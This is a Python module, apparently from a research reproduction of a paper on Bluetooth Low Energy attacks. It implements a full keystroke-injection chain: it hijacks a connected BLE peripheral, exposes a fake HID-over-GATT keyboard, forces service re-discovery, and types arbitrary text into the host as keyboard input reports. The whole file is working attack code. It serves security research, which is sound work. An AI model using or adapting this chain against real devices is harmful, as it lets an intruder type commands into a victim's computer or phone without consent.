"""Scenario E (the paper's future work, §IX): HID keystroke injection.

The conclusion sketches the follow-on attack: after hijacking the Slave
role, "transmit an ATT notification indicating that the ATT server
structure has been modified ... expose a malicious keyboard profile
instead of the original one, and inject keystrokes to the Master by
implementing HID over GATT".  This module implements exactly that chain:

1. Scenario B terminates the real Slave and splices in a fake one;
2. the fake Slave serves a **HID-over-GATT keyboard profile** and sends a
   *Service Changed* indication so the Central re-discovers it;
3. keystrokes are injected as notifications on the HID Report
   characteristic, encoded as standard boot-keyboard input reports.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional

from repro.core.attacker import Attacker
from repro.core.scenarios.scenario_b import ScenarioBResult, SlaveHijackScenario
from repro.errors import AttackError
from repro.host.att.pdus import HandleValueInd, HandleValueNtf
from repro.host.gatt.attributes import Characteristic, Service
from repro.host.gatt.server import GattServer
from repro.host.gatt.uuids import UUID_DEVICE_NAME, UUID_GAP_SERVICE

#: HID-over-GATT assigned numbers.
UUID_HID_SERVICE = 0x1812
UUID_HID_INFORMATION = 0x2A4A
UUID_HID_REPORT_MAP = 0x2A4B
UUID_HID_REPORT = 0x2A4D
UUID_HID_PROTOCOL_MODE = 0x2A4E
UUID_GATT_SERVICE = 0x1801
UUID_SERVICE_CHANGED = 0x2A05

#: Minimal boot-keyboard report map (usage page/usage only; enough for
#: hosts that accept boot protocol).
BOOT_KEYBOARD_REPORT_MAP = bytes.fromhex("05010906a101c0")

#: HID modifier bit for Left Shift.
MOD_LSHIFT = 0x02

#: ASCII → (HID usage id, needs-shift).  Boot keyboard usage table.
_KEYMAP: dict[str, tuple[int, bool]] = {}
for i, ch in enumerate("abcdefghijklmnopqrstuvwxyz"):
    _KEYMAP[ch] = (0x04 + i, False)
    _KEYMAP[ch.upper()] = (0x04 + i, True)
for i, ch in enumerate("1234567890"):
    _KEYMAP[ch] = (0x1E + i, False)
_KEYMAP.update({
    "\n": (0x28, False), " ": (0x2C, False), "-": (0x2D, False),
    "=": (0x2E, False), ".": (0x37, False), ",": (0x36, False),
    "/": (0x38, False), ";": (0x33, False), "'": (0x34, False),
    "!": (0x1E, True), "@": (0x1F, True), "#": (0x20, True),
    "$": (0x21, True), "%": (0x22, True), "^": (0x23, True),
    "&": (0x24, True), "*": (0x25, True), "(": (0x26, True),
    ")": (0x27, True), "_": (0x2D, True), "+": (0x2E, True),
    "?": (0x38, True), ":": (0x33, True), '"': (0x34, True),
})


def encode_keystroke(char: str) -> tuple[bytes, bytes]:
    """(key-down report, key-up report) for one character.

    A boot-keyboard input report is ``modifiers | reserved | 6 keycodes``.
    """
    if len(char) != 1:
        raise AttackError(f"one character at a time, got {char!r}")
    try:
        usage, shift = _KEYMAP[char]
    except KeyError:
        raise AttackError(f"no HID usage for {char!r}") from None
    modifiers = MOD_LSHIFT if shift else 0x00
    down = bytes([modifiers, 0, usage, 0, 0, 0, 0, 0])
    up = bytes(8)
    return down, up


def decode_reports(reports: list[bytes]) -> str:
    """Inverse of :func:`encode_keystroke` over a report stream (tests)."""
    reverse: dict[tuple[int, bool], str] = {}
    for char, (usage, shift) in _KEYMAP.items():
        reverse.setdefault((usage, shift), char)
    out = []
    for report in reports:
        if len(report) < 3 or report[2] == 0:
            continue  # key-up
        shift = bool(report[0] & MOD_LSHIFT)
        char = reverse.get((report[2], shift))
        if char is not None:
            out.append(char)
    return "".join(out)


def hid_keyboard_gatt_server(device_name: str = "Keyboard") -> GattServer:
    """A malicious HID-over-GATT keyboard profile."""
    server = GattServer()
    gap = Service(UUID_GAP_SERVICE)
    gap.add(Characteristic(UUID_DEVICE_NAME, value=device_name.encode(),
                           read=True))
    server.register(gap)
    gatt_service = Service(UUID_GATT_SERVICE)
    gatt_service.add(Characteristic(UUID_SERVICE_CHANGED, read=False,
                                    indicate=True))
    server.register(gatt_service)
    hid = Service(UUID_HID_SERVICE)
    hid.add(Characteristic(UUID_HID_PROTOCOL_MODE, value=b"\x01", read=True,
                           write_no_rsp=True))
    hid.add(Characteristic(UUID_HID_INFORMATION,
                           value=b"\x11\x01\x00\x02", read=True))
    hid.add(Characteristic(UUID_HID_REPORT_MAP,
                           value=BOOT_KEYBOARD_REPORT_MAP, read=True))
    hid.add(Characteristic(UUID_HID_REPORT, value=bytes(8), read=True,
                           notify=True))
    server.register(hid)
    return server


@dataclass
class ScenarioEResult:
    """Outcome of the keystroke-injection chain.

    Attributes:
        hijack: the underlying Scenario B result.
        keystrokes_sent: number of input reports pushed to the Master.
    """

    hijack: ScenarioBResult
    keystrokes_sent: int = 0

    @property
    def success(self) -> bool:
        """Whether the malicious keyboard is live."""
        return self.hijack.success


class KeystrokeInjectionScenario:
    """Hijack the Slave, expose a keyboard, type into the Master.

    Args:
        attacker: a synchronised attacker.
        device_name: Device Name the malicious keyboard advertises.
    """

    def __init__(self, attacker: Attacker, device_name: str = "Keyboard"):
        self.attacker = attacker
        self.gatt = hid_keyboard_gatt_server(device_name)
        self._hijack = SlaveHijackScenario(attacker, gatt_server=self.gatt)
        self.report_char = self.gatt.find_characteristic(UUID_HID_REPORT)
        self.service_changed_char = self.gatt.find_characteristic(
            UUID_SERVICE_CHANGED)
        self.result: Optional[ScenarioEResult] = None

    def run(self, on_done: Optional[Callable[[ScenarioEResult], None]] = None
            ) -> None:
        """Run the hijack, then announce the new ATT structure."""

        def _hijacked(hijack: ScenarioBResult) -> None:
            result = ScenarioEResult(hijack=hijack)
            self.result = result
            if hijack.success:
                # "Transmit an ATT notification indicating that the ATT
                # server structure has been modified" (§IX): a Service
                # Changed indication over the whole handle range.
                assert hijack.fake_slave is not None
                assert self.service_changed_char is not None
                hijack.fake_slave.queue_att(
                    HandleValueInd(self.service_changed_char.value_handle,
                                   b"\x01\x00\xff\xff").to_bytes())
            if on_done is not None:
                on_done(result)

        self._hijack.run(on_done=_hijacked)

    def type_text(self, text: str) -> int:
        """Queue key-down/key-up report notifications spelling ``text``."""
        if self.result is None or not self.result.success:
            raise AttackError("keyboard is not live (hijack not complete)")
        fake = self.result.hijack.fake_slave
        assert fake is not None and self.report_char is not None
        sent = 0
        for char in text:
            down, up = encode_keystroke(char)
            for report in (down, up):
                fake.queue_att(HandleValueNtf(
                    self.report_char.value_handle, report).to_bytes())
                sent += 1
        self.result.keystrokes_sent += sent
        return sent
